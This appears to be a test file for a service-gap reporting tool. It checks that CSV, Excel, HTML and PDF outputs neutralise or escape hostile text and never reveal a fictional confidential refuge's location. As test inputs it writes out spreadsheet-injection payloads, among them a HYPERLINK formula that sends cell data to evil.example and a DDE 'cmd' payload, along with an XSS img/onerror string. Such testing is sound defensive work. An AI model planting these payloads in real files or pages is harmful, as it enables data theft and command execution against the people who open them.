"""Hostile text in, safe files out (issue 8, point 5), and a leak sweep of every report output.

Part 1 puts formula-like text (OWASP CSV injection) into an area name, a service name, a provider
and an intervention of the tiny hand-made case of test_workbook.py, and asserts the exact text of
the cells written in gaps.csv / coverage.csv / access.csv and in the workbook (raw sheet XML and
reopened), and that the workbook holds no formula at all.

Part 2 runs the whole `python -m gapmap report` once on the demo county with hostile area names
in the boundary file's name column, hostile service text, and one confidential refuge that has
a point (latitude/longitude), a postcode and `serves`. Every file it writes is searched, as
bytes, with the workbook unzipped and the PDFs' text extracted, for the refuge's location.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from pypdf import PdfReader
from pyproj import Transformer
from test_workbook import TODAY, tiny

from gapmap import workbook
from gapmap.cli import main
from gapmap.csvtables import access_csv, coverage_csv, gaps_csv
from gapmap.safetext import csv_frame, is_dangerous, neutralise, neutralise_frame
from gapmap.settings import DEMO_BOUNDARIES, DEMO_POPULATION, DEMO_POSTCODES, DEMO_SERVICES

# (hostile text, the exact text every CSV and XLSX cell must hold)
HOSTILE: list[tuple[str, str]] = [
    (
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),  # leading whitespace before "="
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
    ("\u22122+3", "'\u22122+3"),  # minus sign U+2212
    # Ordinary text is left exactly as it was, apostrophes and inner "=" included.
    ("Women's Aid (fictional)", "Women's Aid (fictional)"),
    ("A=B", "A=B"),
    ("'=already quoted", "'=already quoted"),
]
HOSTILE_IDS = [
    "hyperlink",
    "dde",
    "plus",
    "minus",
    "at",
    "tab",
    "cr",
    "spaces",
    "fullwidth",
    "minus_sign",
    "plain",
    "inner_equals",
    "quoted",
]


# --------------------------------------------------------------------------- the neutraliser


def test_neutralise_leaves_numbers_and_missing_values_alone():
    for value in (-2.5, -3, 0, 1.25, None, True):
        assert neutralise(value) is value
    frame = pd.DataFrame({"n": [-2.5, 1.0], "t": ["-2.5", "x"], "mixed": [-1, "-1"]})
    out = neutralise_frame(frame)
    assert out["n"].tolist() == [-2.5, 1.0] and out["n"].dtype == float
    assert out["t"].tolist() == ["'-2.5", "x"]  # text that looks like a number is still text
    assert out["mixed"].tolist() == [-1, "'-1"]
    assert frame["t"].tolist() == ["-2.5", "x"]  # the input is not changed


def test_neutralise_is_idempotent_and_handles_categories_and_headers():
    for text, expected in HOSTILE:
        assert neutralise(neutralise(text)) == expected
    frame = pd.DataFrame({"=h": pd.Categorical(["=a", "'=a", "b"])})
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=h"]
    assert out["'=h"].tolist() == ["'=a", "'=a", "b"]
    assert not is_dangerous("") and not is_dangerous("   ") and is_dangerous("\t")


def test_csv_frame_neutralises_then_turns_carriage_returns_into_line_feeds():
    frame = pd.DataFrame(
        {
            "t": pd.Series(["\r=1+1", "a\r\nb", "=x", "plain", None], dtype="str"),
            "o": pd.Series(["c\rd", 5, "-1", None, "c\rd"], dtype=object),
            "n": [-1.5, 2.0, 3.0, 4.0, 5.0],
            "@c": pd.Categorical(["+a", "b", "+a", "b", "b"]),
            "same": ["x", "y", "x", "y", "x"],
        }
    )
    out = csv_frame(frame)
    assert list(out.columns) == ["t", "o", "n", "'@c", "same"]
    # A CR-led value is caught by the neutraliser first, then its CR becomes a LF.
    assert out["t"].tolist()[:4] == ["'\n=1+1", "a\nb", "'=x", "plain"]
    assert pd.isna(out["t"].tolist()[4])
    assert out["o"].tolist() == ["c\nd", 5, "'-1", None, "c\nd"]
    assert out["n"].tolist() == [-1.5, 2.0, 3.0, 4.0, 5.0] and out["n"].dtype == float
    assert out["'@c"].tolist() == ["'+a", "b", "'+a", "b", "b"]
    assert out["same"].tolist() == ["x", "y", "x", "y", "x"]
    assert frame["t"].tolist()[:2] == ["\r=1+1", "a\r\nb"]  # the input is not changed
    assert frame["@c"].dtype == "category" and list(frame.columns)[3] == "@c"
    text = out.to_csv(index=False, na_rep="", lineterminator="\n")
    assert "\r" not in text
    assert text.startswith('t,o,n,\'@c,same\n"\'\n=1+1","c\nd",-1.5,\'+a,x\n')


# --------------------------------------------------------------------------- the writers, by hand


def hostile_tiny(text: str):
    """tiny() with area E2 named `text` everywhere, and `text` as the IDVA's name, provider and
    intervention and as the refuge's name."""
    dataset, analysis = tiny()
    for frame in (dataset.areas, analysis.gaps, analysis.coverage, analysis.access):
        frame.loc[frame["area_code"] == "E2", "area_name"] = text
    services = dataset.services
    services["provider"] = "Open provider"
    services["intervention"] = ""
    services.loc[services["service_id"] == "S1", ["name", "provider", "intervention"]] = text
    services.loc[services["service_id"] == "R1", "name"] = text
    # A negative figure: a number, never text to neutralise.
    analysis.gaps.loc[analysis.gaps["area_code"] == "E1", "shortfall"] = -0.4
    return dataset, analysis


def csv_cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def sheet_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")}


def assert_no_formula(data: bytes) -> None:
    """No cell of the workbook is a formula: neither as openpyxl reads it nor in the raw XML."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    formulas = [
        (ws.title, c.coordinate)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    xml = sheet_xml(data)
    assert xml
    for name, text in xml.items():
        assert re.search(r"<(?:\w+:)?f[\s>/]", text) is None, name


def rows_by(ws, key: str) -> dict:
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    return {r[header.index(key)]: dict(zip(header, r, strict=True)) for r in rows[1:]}


@pytest.mark.parametrize(("text", "expected"), HOSTILE, ids=HOSTILE_IDS)
def test_hostile_text_is_written_as_quoted_text_in_csv_and_xlsx(text, expected):
    dataset, analysis = hostile_tiny(text)

    # The three CSVs: the area name cell holds exactly `expected`; numbers stay numbers. A CR
    # inside CSV text is written as a LF (quoted): Python's csv writer would leave a bare CR
    # unquoted and split the row there in Excel. An XML parser also reads an XLSX cell's CR as
    # LF (Excel does too), though the file itself holds the CR.
    expected = expected.replace("\r", "\n")
    read_back = expected
    gaps = csv_cells(gaps_csv(analysis))
    assert [r["area_name"] for r in gaps] == ["Alpha", expected, "All selected areas"]
    assert gaps[0]["shortfall"] == "-0.4"
    assert [r["area_name"] for r in csv_cells(coverage_csv(analysis))] == [
        "Alpha",
        "Alpha",
        expected,
        expected,
    ]
    assert [r["area_name"] for r in csv_cells(access_csv(analysis))] == ["Alpha", expected]

    # The workbook: the same text, as text, in every sheet that names areas or services.
    data = workbook.gaps_xlsx_bytes(dataset, analysis, today=TODAY)
    assert_no_formula(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    gaps_sheet = rows_by(wb["Gaps"], "area_code")
    assert gaps_sheet["E2"]["area_name"] == read_back
    assert gaps_sheet["E1"]["shortfall"] == -0.4
    header = [c.value for c in wb["Gaps"][1]]
    assert wb["Gaps"].cell(row=2, column=header.index("shortfall") + 1).data_type == "n"
    for sheet in ("Patchwork", "Access"):
        assert rows_by(wb[sheet], "area_code")["E2"]["area_name"] == read_back
    services = rows_by(wb["Services"], "service_id")
    assert services["S1"]["name"] == services["S1"]["provider"] == services["S1"]["intervention"] == read_back
    assert services["R1"]["name"] == read_back
    summary = [c.value for row in wb["Summary"].iter_rows() for c in row if c.value is not None]
    # Inside a longer text the name is harmless: the cell starts with "2", not a trigger.
    assert f"2 areas: Alpha (E1), {text.replace(chr(13), chr(10))} (E2)" in summary
    xml = "".join(sheet_xml(data).values())
    written = dict(HOSTILE)[text]  # the Services sheet holds the CR as written
    escaped = written.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert re.search(r"<t(?: [^>]*)?>" + re.escape(escaped) + "</t>", xml)


def test_a_hostile_title_file_name_and_benchmark_label_are_text_too():
    dataset, analysis = tiny()
    dataset.sources["services"] = '=HYPERLINK("http://x","y").csv (111111111111)'
    data = workbook.gaps_xlsx_bytes(dataset, analysis, title="@title", today=TODAY)
    assert_no_formula(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb["Summary"]["A1"].value == "'@title"
    values = [c.value for row in wb["Summary"].iter_rows() for c in row]
    assert '\'=HYPERLINK("http://x","y").csv (111111111111)' in values


def test_control_characters_openpyxl_refuses_do_not_abort_the_workbook():
    dataset, analysis = hostile_tiny("Beta\x01\x1b")
    wb = openpyxl.load_workbook(io.BytesIO(workbook.gaps_xlsx_bytes(dataset, analysis, today=TODAY)))
    assert rows_by(wb["Gaps"], "area_code")["E2"]["area_name"] == "Beta\ufffd\ufffd"


# --------------------------------------------------------------------------- the whole report

#: The boundary file's name column, made hostile (codes kept, so population and serves match).
HOSTILE_AREAS = {
    "E07999001": '=HYPERLINK("http://evil.example/?leak="&A1,"Saltmere")',
    "E07999002": "@SUM(A1)",
    "E07999004": "+Orrington Fen",
    "E07999005": "<img src=x onerror=alert(1)></script>",
    # "$" made matplotlib parse TeX: the first stopped the PNG/PDF with a traceback, the
    # second was drawn as maths.
    "E07999006": "Wyke $\\frac{1}{$ sand",
    "E07999007": "Mill $x^2$ beck",
}
HOSTILE_SERVICE_NAME = "=cmd|' /C calc'!A0"
HOSTILE_PROVIDER = "-2+3"

#: The confidential refuge: open country inside Dunstow Vale (E07999003), about 4 km from every
#: boundary and demo postcode (as in test_confidentiality.py), serving two other districts.
SECRET_LAT, SECRET_LON = 54.10471, 1.48127
SECRET_POSTCODE = "QX4 7HD"
SECRET = {
    "service_id": "FEN-SECRET",
    "name": "Lantern House Refuge (fictional)",
    "service_type": "refuge",
    "provider": "Fenmarsh Women's Aid (fictional)",
    "postcode": SECRET_POSTCODE,
    "latitude": str(SECRET_LAT),
    "longitude": str(SECRET_LON),
    "serves": "E07999006;E07999007",
    "capacity": "7",
    "capacity_unit": "family_spaces",
    "hours": "24_7",
    "confidential": "true",
}
#: A second refuge at the same place, given only by British National Grid metres and left
#: without a `confidential` value (refuges are confidential by default).
SECRET_EN = {
    "service_id": "FEN-SECRET-EN",
    "name": "Second Lantern Refuge (fictional)",
    "service_type": "refuge",
    "easting": "627683",
    "northing": "473250",
    "serves": "E07999008",
    "capacity": "4",
    "capacity_unit": "family_spaces",
}


def _coordinate(value: float) -> str:
    """`value` to 3 decimals (rounded or truncated, '.' or ','), with or without more digits."""
    whole, _, frac = f"{value:.6f}".partition(".")
    options = sorted({frac[:3], f"{value:.3f}".partition(".")[2]})
    return rf"(?<![\d.]){whole}[.,](?:{'|'.join(options)})\d*"


def _metres(value: float) -> str:
    """A BNG easting/northing to 100 m (truncated or rounded): six digits of metres, or km
    with a decimal."""
    forms = sorted({f"{value:.0f}"[:4], f"{round(value, -2):.0f}"[:4]})
    alts = "|".join(rf"{f[:3]}{f[3]}\d\d(?!\d)|{f[:3]}[.,]{f[3]}" for f in forms)
    return rf"(?<![\d.])(?:{alts})"


PAIR_WINDOW = 80


def location_patterns(lat: float, lon: float, postcode: str) -> dict[str, str]:
    """Regexes for a place written anywhere: the postcode (any spacing or case), the latitude,
    the easting, the northing, and the longitude (used only as part of a lat/long pair: 1.481
    alone is too like a ratio)."""
    easting, northing = Transformer.from_crs(4326, 27700, always_xy=True).transform(lon, lat)
    outward, _, inward = postcode.partition(" ")
    return {
        "postcode": rf"(?i){re.escape(outward)}\s*{re.escape(inward)}",
        "latitude": _coordinate(lat),
        "easting": _metres(easting),
        "northing": _metres(northing),
        "longitude": _coordinate(lon),
    }


SECRET_PATTERNS = location_patterns(SECRET_LAT, SECRET_LON, SECRET_POSTCODE)
EASTING, NORTHING = Transformer.from_crs(4326, 27700, always_xy=True).transform(SECRET_LON, SECRET_LAT)


def leaks(text: str, patterns: dict[str, str] = SECRET_PATTERNS) -> list[str]:
    """Which of the place's location values `text` holds (empty when none)."""
    found = [
        label for label, pattern in patterns.items() if label != "longitude" and re.search(pattern, text)
    ]
    for m in re.finditer(patterns["latitude"], text):
        window = text[max(0, m.start() - PAIR_WINDOW) : m.end() + PAIR_WINDOW]
        if re.search(patterns["longitude"], window):
            found.append("lat/long pair")
            break
    return found


def output_texts(out: Path) -> dict[str, str]:
    """Every file in `out` as text: raw bytes (latin-1, so any byte is a character), every
    member of the workbook unzipped, and the PDFs' extracted text as well as their bytes."""
    texts: dict[str, str] = {}
    for path in sorted(out.iterdir()):
        raw = path.read_bytes()
        texts[path.name] = raw.decode("latin-1")
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as z:
                for member in z.namelist():
                    texts[f"{path.name}:{member}"] = z.read(member).decode("utf-8")
        if path.suffix == ".pdf":
            texts[f"{path.name}:text"] = "\n".join(p.extract_text() for p in PdfReader(path).pages)
    return texts


@pytest.fixture(scope="module")
def hostile_inputs(tmp_path_factory) -> dict[str, Any]:
    folder = tmp_path_factory.mktemp("hostile_in")
    areas = gpd.read_file(DEMO_BOUNDARIES)
    areas["area_name"] = [
        HOSTILE_AREAS.get(c, n) for c, n in zip(areas["area_code"], areas["area_name"], strict=True)
    ]
    boundaries = folder / "hostile_names.geojson"
    areas.to_file(boundaries, driver="GeoJSON")

    with open(DEMO_SERVICES, newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        fields = list(reader.fieldnames or [])
        rows = list(reader)
    renamed = {
        n: c for c, n in zip(areas["area_code"], gpd.read_file(DEMO_BOUNDARIES)["area_name"], strict=True)
    }
    for row in rows:  # `serves` by name would no longer match the renamed areas: use codes
        row["serves"] = ";".join(
            renamed.get(s.strip(), s.strip()) for s in row["serves"].split(";") if s.strip()
        )
    rows[0]["name"] = HOSTILE_SERVICE_NAME
    rows[0]["provider"] = HOSTILE_PROVIDER
    rows.append({k: SECRET.get(k, "") for k in fields})
    rows.append({k: SECRET_EN.get(k, "") for k in fields})
    services = folder / "hostile_services.csv"
    with open(services, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=fields)
        writer.writeheader()
        writer.writerows(rows)
    return {"boundaries": boundaries, "services": services, "first_id": rows[0]["service_id"]}


@pytest.fixture(scope="module")
def hostile_report(hostile_inputs, tmp_path_factory) -> tuple[Path, str]:
    out = tmp_path_factory.mktemp("hostile_out")
    capture = io.StringIO()
    with contextlib.redirect_stdout(capture), contextlib.redirect_stderr(capture):
        code = main(
            [
                "report",
                "--services",
                str(hostile_inputs["services"]),
                "--boundaries",
                str(hostile_inputs["boundaries"]),
                "--population",
                str(DEMO_POPULATION),
                "--postcodes",
                str(DEMO_POSTCODES),
                "--out",
                str(out),
                "--title",
                "=1+1",
            ]
        )
    assert code == 0, capture.getvalue()
    return out, capture.getvalue()


def test_the_leak_detector_finds_what_it_looks_for(hostile_inputs):
    assert set(leaks(hostile_inputs["services"].read_text(encoding="utf-8"))) == {
        "postcode",
        "latitude",
        "lat/long pair",
        "easting",
        "northing",
    }
    assert leaks("qx47hd") == ["postcode"]
    assert leaks('"lat": 54.105, "lng": 1.481') == ["latitude", "lat/long pair"]
    assert leaks("54,1047;1,4813") == ["latitude", "lat/long pair"]
    assert leaks(f"POINT ({EASTING:.1f} {NORTHING:.1f})") == ["easting", "northing"]
    assert leaks(f"{EASTING / 1000:.1f} km E") == ["easting"]
    assert leaks("ratio 1.4813, 154.10471, 54.1, 6276, 11.48127") == []


def test_every_report_output_is_free_of_the_refuge_location(hostile_report):
    out, console = hostile_report
    names = {p.name for p in out.iterdir()}
    assert names == {
        "gaps.csv",
        "coverage.csv",
        "access.csv",
        "summary.json",
        "options.csv",
        "costs.csv",
        "map.png",
        "map.pdf",
        "map.html",
        "gaps.xlsx",
        "pack.pdf",
    }
    texts = output_texts(out)
    texts["console"] = console
    assert any(k.startswith("gaps.xlsx:xl/worksheets/") for k in texts)
    assert texts["pack.pdf:text"].strip() and texts["map.pdf:text"].strip()
    found = {name: leaks(text) for name, text in texts.items()}
    assert {name: f for name, f in found.items() if f} == {}


def test_the_sweep_finds_a_public_service_where_it_is_shown(hostile_report, hostile_inputs):
    """The same sweep, aimed at a public located service, finds it in the workbook's sheet XML
    and in the HTML map: the search reads what the files really hold."""
    out, _ = hostile_report
    with open(hostile_inputs["services"], newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    lookup = pd.read_csv(DEMO_POSTCODES, dtype=str)
    public = next(r for r in rows if r["confidential"] != "true" and r["postcode"] and not r["serves"])
    where = lookup.loc[lookup.iloc[:, 0] == public["postcode"]].iloc[0]
    patterns = location_patterns(float(where.iloc[1]), float(where.iloc[2]), public["postcode"])
    texts = output_texts(out)
    sheets = "".join(t for k, t in texts.items() if k.startswith("gaps.xlsx:xl/worksheets/"))
    assert {"postcode", "latitude", "lat/long pair"} <= set(leaks(sheets, patterns))
    # The HTML map holds its markers as columns (every latitude, then every longitude), so the
    # pair is not side by side there: the latitude is found, and the longitude too.
    assert "latitude" in leaks(texts["map.html"], patterns)
    assert re.search(patterns["longitude"], texts["map.html"])


def test_the_refuge_is_in_the_workbook_without_its_location(hostile_report):
    out, _ = hostile_report
    wb = openpyxl.load_workbook(out / "gaps.xlsx")
    refuge = rows_by(wb["Services"], "service_id")["FEN-SECRET"]
    assert refuge["name"] == "Lantern House Refuge (fictional)"
    assert refuge["capacity"] == 7
    assert refuge["serves"] == "E07999006; E07999007"
    for col in ("latitude", "longitude", "postcode", "easting", "northing"):
        assert refuge.get(col) is None, col
    second = rows_by(wb["Services"], "service_id")["FEN-SECRET-EN"]
    assert second["confidential"] is True and second["serves"] == "E07999008"
    assert second["latitude"] is None and second["longitude"] is None


def test_hostile_area_and_service_text_in_the_report_files(hostile_report, hostile_inputs):
    out, _ = hostile_report
    expected = {code: "'" + name if name[0] in "=+@" else name for code, name in HOSTILE_AREAS.items()}
    for table in ("gaps.csv", "coverage.csv", "access.csv"):
        cells = csv_cells((out / table).read_bytes())
        names = {r["area_code"]: r["area_name"] for r in cells}
        for code, name in expected.items():
            assert names[code] == name, (table, code)
    data = (out / "gaps.xlsx").read_bytes()
    assert_no_formula(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in ("Gaps", "Patchwork", "Access"):
        names = {code: row["area_name"] for code, row in rows_by(wb[sheet], "area_code").items()}
        for code, name in expected.items():
            assert names[code] == name, (sheet, code)
    first = rows_by(wb["Services"], "service_id")[hostile_inputs["first_id"]]
    assert first["name"] == "'" + HOSTILE_SERVICE_NAME
    assert first["provider"] == "'" + HOSTILE_PROVIDER
    assert wb["Summary"]["A1"].value == "'=1+1"
    # JSON needs no quoting: summary.json still parses and carries no area names to neutralise.
    json.loads((out / "summary.json").read_text(encoding="utf-8"))


def test_dollar_signs_in_names_are_drawn_as_written_in_the_pdfs(hostile_report):
    out, _ = hostile_report
    for name in ("map.pdf", "pack.pdf"):
        text = "\n".join(p.extract_text() for p in PdfReader(out / name).pages)
        assert HOSTILE_AREAS["E07999006"] in text, name
        assert HOSTILE_AREAS["E07999007"] in text, name


def test_hostile_names_are_escaped_in_the_html_map(hostile_report):
    out, _ = hostile_report
    html = (out / "map.html").read_text(encoding="utf-8")
    assert "onerror=alert(1)" in html  # the name is on the map (escaped), so the check is real
    assert "<img src=x" not in html.lower()
    assert "</script><img" not in html.lower()
    # Every </script> closes a <script> the page opened: no name ends a script block early.
    assert len(re.findall(r"</script", html, flags=re.I)) == len(re.findall(r"<script\b", html, flags=re.I))


# --------------------------------------------------------------------------- found in review


@pytest.mark.parametrize("bad", ["\ufffe", "\uffff", "\x01"])
def test_characters_xml_forbids_do_not_corrupt_the_workbook(bad):
    # U+FFFE/U+FFFF (valid in a JSON or TOML escape) made the whole file unreadable. Each
    # becomes U+FFFD and the workbook reopens. (A lone surrogate cannot come from an input
    # file: the readers decode strictly.)
    dataset, analysis = hostile_tiny(f"A{bad}B")
    book = openpyxl.load_workbook(io.BytesIO(workbook.gaps_xlsx_bytes(dataset, analysis, today=TODAY)))
    assert rows_by(book["Gaps"], "area_code")["E2"]["area_name"] == "A\ufffdB"


def test_a_benchmark_label_with_forbidden_characters_makes_a_legal_sheet_name():
    assert workbook.safe_sheet_name("\x01\ufffeRefuge places") == "Refuge places"
    assert workbook.safe_sheet_name("IDVA\x01posts") == "IDVAposts"


def test_the_map_page_json_escapes_line_separators():
    from gapmap.webmap import _script_json

    assert _script_json(["a\u2028b\u2029</script>"]) == '["a\\u2028b\\u2029\\u003c/script\\u003e"]'


def test_a_confidential_service_s_small_areas_are_not_listed_in_the_workbook():
    # Area C has 5,000 residents, under the 10,000 threshold: the engine credits the refuge to A
    # only, and the Services sheet must not name C either (it would place the refuge there).
    from test_engine import A, C, make_areas, make_population, make_services, service

    from gapmap.config import default_config
    from gapmap.dataset import Dataset
    from gapmap.engine import analyse
    from gapmap.errors import ValidationReport

    config = default_config()
    population = make_population()
    population.loc[population["area_code"] == C, ["females_16_plus", "females", "all_persons"]] = [
        2_000.0,
        2_500.0,
        5_000.0,
    ]
    services = make_services(
        [
            service("R", "refuge", serves=(A, C), capacity=4.0, confidential=True),
            service("H", "helpline", serves=("*",), confidential=True),
            service("P", "idva", serves=(A, C), capacity=1.0),
        ]
    )
    areas = make_areas()
    analysis = analyse(areas, population, services, config)
    dataset = Dataset(areas, population, services, config, ValidationReport(), {}, False)
    table = workbook.service_table(services, config, analysis)
    serves = dict(zip(table["service_id"], table["serves"], strict=True))
    assert serves == {"R": A, "H": "*", "P": f"{A}; {C}"}
    book = openpyxl.load_workbook(io.BytesIO(workbook.gaps_xlsx_bytes(dataset, analysis, today=TODAY)))
    assert rows_by(book["Services"], "service_id")["R"]["serves"] == A


@pytest.mark.parametrize("name", ["NA", "None", "null", "N/A"])
def test_an_area_named_like_a_missing_value_keeps_its_name_in_the_workbook(name):
    dataset, analysis = hostile_tiny(name)
    book = openpyxl.load_workbook(io.BytesIO(workbook.gaps_xlsx_bytes(dataset, analysis, today=TODAY)))
    assert rows_by(book["Gaps"], "area_code")["E2"]["area_name"] == name
